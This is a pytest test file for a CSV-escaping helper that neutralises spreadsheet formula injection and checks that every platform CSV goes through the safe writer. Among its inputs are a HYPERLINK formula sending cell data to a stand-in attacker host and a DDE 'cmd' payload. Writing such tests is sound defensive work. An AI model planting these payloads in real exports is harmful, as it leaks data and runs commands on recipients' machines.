"""One formula-safe cell for every CSV the platform writes."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from localrights import csvsafe
from localrights.csvsafe import safe_cell

ROOT = Path(__file__).resolve().parents[2]

# Every leading character a spreadsheet may take as the start of a formula, alone and
# followed by a payload; the full-width forms are read as formulas by some East Asian
# input methods and spreadsheets.
LEADING = {
    "equals": "=",
    "plus": "+",
    "minus": "-",
    "at": "@",
    "tab": "\t",
    "carriage return": "\r",
    "line feed": "\n",
    "full-width equals": "\uff1d",
    "full-width plus": "\uff0b",
    "full-width minus": "\uff0d",
    "full-width at": "\uff20",
}


@pytest.mark.parametrize("lead", LEADING.values(), ids=LEADING.keys())
@pytest.mark.parametrize("payload", ["", 'HYPERLINK("http://evil.example/?"&A1,"x")', "2+3"])
def test_a_cell_starting_like_a_formula_is_escaped(lead: str, payload: str) -> None:
    assert safe_cell(lead + payload) == "'" + lead + payload


@pytest.mark.parametrize(
    "text", ["plain", "Comune di Bologna", " =1+1", "'quoted", "1+1", "x=1", "", "ÿ=1"]
)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("number", [-3, -0.5, 0, 42, 1.5e-9, -1e6])
def test_numbers_stay_numbers_even_negative(number: float) -> None:
    """A number cannot carry a formula; a rating of -2 must stay a figure to sum."""
    assert safe_cell(number) == number


def test_text_that_looks_like_a_negative_number_is_escaped() -> None:
    # Text is judged as text: "-2+3" would run, and "-2" cannot be told apart cheaply.
    assert safe_cell("-2") == "'-2"


def test_none_is_an_empty_cell() -> None:
    assert safe_cell(None) == ""


def test_the_writer_escapes_every_cell_and_round_trips() -> None:
    out = io.StringIO()
    writer = csvsafe.writer(out, lineterminator="\r\n")
    writer.writerow(["id", "comment", "rating"])
    writer.writerows([["a", "\n=cmd|' /C calc'!A0", -2], ["b", None, 3]])
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows == [
        ["id", "comment", "rating"],
        ["a", "'\n=cmd|' /C calc'!A0", "-2"],
        ["b", "", "3"],
    ]


def test_every_csv_the_platform_writes_goes_through_the_safe_writer() -> None:
    """No plain csv.writer / DictWriter in the code of the services or the shared library."""
    plain = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = [
        f"{path.relative_to(ROOT)}:{number}"
        for base in ("services", "shared/src")
        for path in sorted((ROOT / base).rglob("*.py"))
        if "/tests/" not in path.as_posix() and path.name != "csvsafe.py"
        for number, line in enumerate(path.read_text().splitlines(), 1)
        if plain.search(line)
    ]
    assert offenders == []
